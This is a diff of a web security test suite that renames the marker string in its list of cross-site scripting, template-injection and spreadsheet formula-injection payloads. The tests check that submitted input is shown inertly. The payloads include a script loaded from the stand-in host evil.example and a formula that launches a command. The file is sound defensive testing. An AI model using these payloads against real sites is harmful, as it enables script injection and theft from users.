@@ -18,29 +18,29 @@ from tests.developer_area.markup import Element, parse
 from tests.developer_area.surface import FoundForm, Ground, Survey, Walk, is_html
 
 FEWEST_FIELDS: Final = 7
-MARK: Final = "zq7"
+MARK: Final = "zq-hostile-7"
 """Stands in every payload, so that whatever it became can be found."""
 PAYLOADS: Final = (
-    "<script>alert('zq7')</script>",
-    "</script><script src=//evil.example/zq7.js></script>",
-    "<img src=x onerror=alert('zq7')>",
-    "<svg/onload=alert('zq7')>",
-    "\"><script>alert('zq7')</script>",
-    "'><img src=x onerror=alert(zq7)>",
-    '" autofocus onfocus=alert("zq7") x="',
-    "' onmouseover='alert(zq7)",
-    "</textarea><script>alert('zq7')</script>",
-    "</title><script>alert('zq7')</script>",
-    "<!--<img src=x onerror=alert('zq7')>-->",
-    "javascript:alert('zq7')",
-    "<a href=javascript:alert('zq7')>zq7</a>",
-    "{{ 'zq' * 2 }}{% raw %}zq7",
-    "${7*7}#{7*7}zq7",
-    "&lt;script&gt;alert('zq7')&lt;/script&gt;",
-    "<b hx-get=/sign-out hx-trigger=load>zq7</b>",
-    "<form action=//evil.example><button>zq7",
-    "<style>*{display:none}</style>zq7",
-    "<hx-partial hx-target=body><b>zq7</b></hx-partial>",
+    "<script>alert('zq-hostile-7')</script>",
+    "</script><script src=//evil.example/zq-hostile-7.js></script>",
+    "<img src=x onerror=alert('zq-hostile-7')>",
+    "<svg/onload=alert('zq-hostile-7')>",
+    "\"><script>alert('zq-hostile-7')</script>",
+    "'><img src=x onerror=alert(zq-hostile-7)>",
+    '" autofocus onfocus=alert("zq-hostile-7") x="',
+    "' onmouseover='alert(zq-hostile-7)",
+    "</textarea><script>alert('zq-hostile-7')</script>",
+    "</title><script>alert('zq-hostile-7')</script>",
+    "<!--<img src=x onerror=alert('zq-hostile-7')>-->",
+    "javascript:alert('zq-hostile-7')",
+    "<a href=javascript:alert('zq-hostile-7')>zq-hostile-7</a>",
+    "{{ 'zq' * 2 }}{% raw %}zq-hostile-7",
+    "${7*7}#{7*7}zq-hostile-7",
+    "&lt;script&gt;alert('zq-hostile-7')&lt;/script&gt;",
+    "<b hx-get=/sign-out hx-trigger=load>zq-hostile-7</b>",
+    "<form action=//evil.example><button>zq-hostile-7",
+    "<style>*{display:none}</style>zq-hostile-7",
+    "<hx-partial hx-target=body><b>zq-hostile-7</b></hx-partial>",
 )
 FORMULAS: Final = ("=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "%0A=1")
 SHOWING: Final = {"value", "title", "alt", "placeholder", "content", "datetime"}
@@ -210,7 +210,11 @@ def test_spreadsheets_compute_nothing(survey: Survey, tmp_path: Path, formula: s
 def test_a_payload_is_found_where_it_acts() -> None:
     """The check itself can fail: markup in which a payload came alive is refused."""
     harmless = "<p>{}</p>"
-    for alive in ("<p onclick='zq7'></p>", "<b zq7></b>", "<a href='javascript:zq7'>x</a>"):
+    for alive in (
+        "<p onclick='zq-hostile-7'></p>",
+        "<b zq-hostile-7></b>",
+        "<a href='javascript:zq-hostile-7'>x</a>",
+    ):
         with pytest.raises(AssertionError):
             require_inert(parse(harmless.format(alive)), "alive")
-    require_inert(parse(harmless.format("zq7 &lt;script&gt;")), "inert")
+    require_inert(parse(harmless.format("zq-hostile-7 &lt;script&gt;")), "inert")
